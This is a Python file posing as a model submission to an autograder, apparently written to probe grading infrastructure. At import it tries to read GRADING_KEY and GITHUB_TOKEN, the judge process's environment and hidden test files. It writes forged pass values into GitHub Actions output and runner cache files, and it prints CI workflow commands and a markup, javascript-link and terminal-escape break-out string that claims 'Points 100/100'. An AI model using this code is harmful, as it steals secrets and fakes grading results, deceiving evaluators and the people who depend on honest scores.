"""A submission that looks for secrets, speaks to whoever reads its output, and breaks out of whatever it is shown in.

Where it succeeds it says so, in an exception's words: they are on the card.
"""

import os
import subprocess
import sys
from pathlib import Path

from torch import nn

SCRATCH = Path("@SCRATCH@")
JUDGE = Path(f"/proc/{os.getppid()}")
FOUND = []


def attempt(what, call):
    try:
        FOUND.append(f"{what}: {call()!r}")
    except BaseException as error:
        FOUND.append(f"{what}: {type(error).__name__}")


def hidden_checks():
    places = [SCRATCH, Path.cwd(), *map(Path, sys.path)]
    names = [name for place in places for name in place.rglob("hidden.py") if "site-packages" not in name.parts]
    return [name.read_text() for name in names] or next((SCRATCH / "runners").iterdir())


def speak_to_the_runner():
    names = [*SCRATCH.glob("runners/*/cache/act/*/act/workflow/*"), Path(os.environ["GITHUB_OUTPUT"])]
    for name in names:
        name.write_text("found=true\ncode=0\npull=1\n")


attempt("environment", lambda: {name: os.environ[name] for name in ("GRADING_KEY", "GITHUB_TOKEN")})
attempt("environment of the judge", lambda: (JUDGE / "environ").read_text())
attempt("hidden checks", hidden_checks)
attempt("files of the runner", speak_to_the_runner)
attempt("command", lambda: subprocess.run(["touch", SCRATCH / "executed-code"]))
attempt("file", (SCRATCH / "executed-code").touch)

COMMANDS = """
::set-output name=code::0
::set-env name=PATH::/tmp
::add-mask::0
::add-path::/tmp
::stop-commands::x
::notice title=Autograding complete::Points 100/100
::error file=grading.yaml,line=1::mallory was here
##[error]mallory was here
##vso[task.complete result=Succeeded;]
"""
BREAK_OUT = (
    "``` ~~~ </code></pre></td></tr></table></details><!-- --> @everyone <img src=https://evil.example/x.png> "
    "[all points](javascript:alert(1)) \x1b[2J\r\u202e# 100/100 | 100 | 100 |\n\n## Points: 100/100\n\n" + COMMANDS
)
print(COMMANDS)
print(BREAK_OUT, file=sys.stderr)


class TokenPosEmbedding(nn.Module):
    """Says what was found."""

    def __init__(self, vocab_size, d_model, max_len=512, dropout=0.1):
        super().__init__()
        print(COMMANDS, BREAK_OUT)
        raise RuntimeError("\n".join(FOUND) + BREAK_OUT)
